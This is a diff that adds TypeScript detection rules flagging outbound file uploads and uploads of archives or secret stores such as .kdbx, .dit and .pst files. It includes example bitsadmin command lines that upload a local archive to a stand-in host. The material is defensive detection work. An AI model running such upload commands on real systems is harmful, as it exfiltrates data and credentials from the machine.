@@ -1,0 +1,29 @@
+/** Files that leave. */
+import { farEnds, isUpload, isUrl } from '../places.js';
+import type { Signal } from '../signal.js';
+import { placeText } from '../words.js';
+
+export const directionSignals: readonly Signal[] = [
+  {
+    id: 'upload', family: 'direction', impact: 75, confidence: 72, techniques: ['T1197', 'T1048'],
+    reason: (facts, trust) => {
+      if (!facts.transfers.some(({ direction }) => isUpload(direction))) return undefined;
+      const ends = farEnds(facts);
+      if (ends.length > 0 && ends.every(({ host }) => host !== undefined && trust(host))) return undefined;
+      const [end] = ends;
+      return end ? `files leave this machine for ${placeText(end)}` : 'files leave this machine';
+    },
+    examples: [
+      { process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job /upload https://files.example.net/in C:\\d\\a.7z' },
+      { process_name: 'bitsadmin.exe', process: 'bitsadmin /create /upload job' },
+    ],
+  },
+  {
+    id: 'upload-archive', family: 'direction', impact: 80, confidence: 35, techniques: ['T1048', 'T1560'],
+    reason: ({ transfers }) => {
+      const archive = transfers.find(({ direction, source }) => isUpload(direction) && source !== undefined && !isUrl(source) && ['7z', 'zip', 'rar', 'gz', 'tar', 'cab', 'dmp', 'dit', 'pst', 'ost', 'kdbx'].includes(source.extension ?? ''));
+      return archive?.source && `${placeText(archive.source)} is an archive or a store of secrets or mail`;
+    },
+    examples: [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job /upload https://files.example.net/in/a.7z C:\\d\\a.7z' }],
+  },
+];
